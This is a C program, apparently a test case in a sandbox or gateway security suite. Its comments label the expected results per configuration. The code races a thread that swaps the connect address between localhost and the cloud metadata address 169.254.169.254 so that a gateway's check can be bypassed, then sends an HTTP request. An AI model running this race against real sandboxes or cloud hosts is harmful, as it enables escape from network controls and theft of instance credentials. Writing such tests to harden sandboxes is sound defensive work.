// title: changes the address while the gateway looks at a connect
// harm: learns
// egress: public.example:80
// B: seccomp refuses sockets
// C: the gateway connects by itself; what goes on meets an empty network
#include <arpa/inet.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in address = {.sin_family = AF_INET};
static volatile int done;

static void *swap(void *unused) {
  unsigned good = inet_addr("127.0.0.1"), bad = inet_addr("169.254.169.254");
  while (!done) {
    *(volatile unsigned *)&address.sin_addr.s_addr = good;
    *(volatile unsigned *)&address.sin_addr.s_addr = bad;
  }
  return 0;
}

int main(void) {
  pthread_t thread;
  time_t end = time(0) + 2;
  address.sin_port = htons(80);
  pthread_create(&thread, 0, swap, 0);
  while (time(0) < end) {
    char answer[1024] = {0};
    struct timeval limit = {1, 0};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    if (connect(s, (struct sockaddr *)&address, sizeof address) == 0 && write(s, "GET / HTTP/1.0\r\n\r\n", 18) > 0 && read(s, answer, 1023) > 0) {
      puts(answer);
      break;
    }
    close(s);
  }
  done = 1;
}
